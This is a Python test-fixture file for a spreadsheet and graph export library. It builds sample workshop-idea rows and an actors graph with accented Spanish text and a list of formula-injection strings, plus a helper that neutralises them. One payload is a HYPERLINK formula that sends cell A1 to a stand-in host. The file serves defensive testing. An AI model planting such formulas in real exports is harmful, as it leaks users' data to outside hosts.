"""Shapes to write in the tests: one column of every kind, accents, and formula payloads."""
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

from lab.exports.formats import Column, Edge, Graph, Kind, Node, Table

ZONE = "America/Bogota"  # UTC-5 all year
# What a hostile participant might type as an idea, and what a spreadsheet must show instead.
PAYLOADS = ['=HYPERLINK("http://ejemplo.invalid/?d="&A1;"clic")', "+57 300 000 0000", "-2+3",
            "@SUMA(A1:A9)", "\t=1+1", "\r=1+1"]
ACCENTS = "¿Quién aportará? ¡Ñandú, acción y pingüino! Él, ésta, sí"
POSTED = datetime(2026, 3, 14, 14, 5, 30, tzinfo=UTC)  # 09:05:30 in Bogotá

COLUMNS = (
    Column("text", "Idea", Kind.TEXT),
    Column("votes", "Votos", Kind.INTEGER),
    Column("score", "Puntaje", Kind.DECIMAL),
    Column("day", "Día", Kind.DATE),
    Column("posted_at", "Publicada", Kind.DATETIME),
    Column("speaking", "Tiempo con la palabra", Kind.DURATION),
    Column("hidden", "Oculta", Kind.BOOLEAN),
    Column("tags", "Etiquetas", Kind.LIST),
)


def idea_rows():
    rows = [
        (ACCENTS, 4, Decimal("2.50"), date(2026, 3, 14), POSTED, timedelta(minutes=1, seconds=5), False,
         ("físicas", "humanas")),
        ("Con ; punto y coma, comillas \"dobles\" y\nsalto de línea", 0, 0.1, date(2026, 1, 2),
         POSTED + timedelta(days=1), timedelta(hours=25, seconds=3), True, ()),
        (None, None, None, None, None, None, None, None),
        ("Negativos y grandes", -3, Decimal("-1234567.125"), date(2025, 12, 31), POSTED, timedelta(0), True,
         ("a",)),
    ]
    rows += [(payload, 1, 1, None, None, None, None, (payload,)) for payload in PAYLOADS]
    return rows


def ideas_table(header=True, rows=None):
    lines = [("Entidad", "Alcaldía de Ñuñoa"), ("Fecha", date(2026, 3, 14)), ("Generado", POSTED),
             ("Ideas", 12), ("Duración", timedelta(hours=2)), ("=Objetivo", PAYLOADS[0])] if header else []
    return Table(name="ideas", title="Ideas del taller", columns=COLUMNS,
                 rows=idea_rows() if rows is None else rows, header=lines)


NODE_COLUMNS = (Column("sector", "Sector"), Column("evidence", "Evidencias", Kind.INTEGER),
                Column("influence", "Influencia", Kind.DECIMAL), Column("potential", "Potencial", Kind.BOOLEAN),
                Column("aliases", "Alias", Kind.LIST), Column("since", "Desde", Kind.DATE),
                Column("seen_at", "Visto", Kind.DATETIME))
EDGE_COLUMNS = (Column("strength", "Fuerza", Kind.INTEGER), Column("note", "Nota"))


def actors_graph(directed=True, nodes=None):
    nodes = nodes or [
        Node("lab", "Laboratorio de Innovación Pública", "interno", {"sector": "gobierno", "evidence": 0}),
        Node("uis", "Universidad Industrial de Santander", "universidad",
             {"sector": "academia", "evidence": 7, "influence": Decimal("4.5"), "potential": False,
              "aliases": ("UIS", "U. Industrial"), "since": date(2026, 3, 14), "seen_at": POSTED}),
        Node("sena-tecnoparque", "SENA Tecnoparque Bucaramanga", "entidad",
             {"sector": "gobierno", "evidence": 2, "influence": 3.25, "potential": True}),
        Node("camara", PAYLOADS[0], PAYLOADS[3], {"sector": PAYLOADS[1], "aliases": (PAYLOADS[2],)}),
    ]
    edges = [
        Edge("link-1", "uis", "lab", "colaboración", {"strength": 3, "note": ACCENTS}),
        Edge("link-2", "uis", "lab", "financiación", {"strength": 1}),
        Edge("link-3", "sena-tecnoparque", "uis", "conocimiento", {"note": PAYLOADS[4]}),
        Edge("link-4", "camara", "lab"),
    ]
    return Graph(name="actores", title="Mapa de actores", nodes=nodes, edges=edges,
                 node_columns=NODE_COLUMNS, edge_columns=EDGE_COLUMNS, directed=directed)


def neutralised(payload):
    return "'" + payload
